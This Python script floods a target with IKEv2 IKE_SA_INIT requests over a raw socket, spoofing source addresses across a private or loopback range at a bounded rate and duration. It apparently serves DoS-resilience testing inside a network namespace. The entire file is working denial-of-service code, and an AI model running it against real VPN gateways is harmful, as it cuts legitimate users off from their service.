#!/usr/bin/env python3
"""Sends IKE_SA_INIT requests from spoofed addresses, bounded in rate and time: flood.py TARGET RATE SECONDS [PEER]

Sources are those of 10.66.0.0/16, or 127.66.0.0/16 for a target on the loopback device; with PEER, every sixteenth request comes in its name. Each has an SPI and a nonce of its
own. For a network namespace: it wants root, and nobody but the target should see it. Prints how many were sent.
"""
import os
import socket
import struct
import sys
import time


def transform(last, kind, number, attribute=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attribute), kind, 0, number) + attribute


def request():
    """aes128gcm16-prfsha256-x25519, 144 octets: an IKE header, SA, KE and nonce."""
    suite = (transform(False, 1, 20, struct.pack("!HH", 0x800E, 128)) + transform(False, 2, 5) + transform(True, 4, 31))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(suite), 1, 1, 0, 3) + suite
    body = struct.pack("!BBH", 34, 0, 4 + len(proposal)) + proposal
    body += struct.pack("!BBHHH", 40, 0, 40, 31, 0) + os.urandom(32)
    body += struct.pack("!BBH", 0, 0, 36) + os.urandom(32)
    return struct.pack("!QQBBBBII", 1, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def packet(target, message):
    """With IPv4 and UDP headers; the kernel fills in the IPv4 checksum, and 0 is no UDP checksum."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(message), 0, 0, 64, 17, 0, bytes(4), socket.inet_aton(target))
    return bytearray(ip + struct.pack("!HHHH", 500, 500, 8 + len(message), 0) + message)


def main(target, rate, seconds, peer=None):
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    flood = packet(target, request())
    own = struct.unpack("!I", socket.inet_aton(peer))[0] if peer else None
    nonce = len(flood) - 32
    sources = 0x7F420000 if target.startswith("127.") else 0x0A420000
    start = time.monotonic()
    sent = 0
    while True:
        elapsed = time.monotonic() - start
        if elapsed >= seconds:
            break
        due = min(int(elapsed * rate), sent + 256)
        if due <= sent:
            time.sleep(0.001)
        while sent < due:
            sent += 1
            mixed = sent * 0x9E3779B97F4A7C15 & 0xFFFFFFFFFFFFFFFF
            source = own if own and sent % 16 == 0 else sources | mixed >> 48
            struct.pack_into("!I", flood, 12, source)
            struct.pack_into("!H", flood, 20, 1024 + (mixed >> 16) % 60000)
            struct.pack_into("!Q", flood, 28, mixed | 1)
            struct.pack_into("!Q", flood, nonce, mixed)
            try:
                sender.sendto(flood, (target, 0))
            except OSError:
                pass
    print(sent)


main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), *sys.argv[4:5])
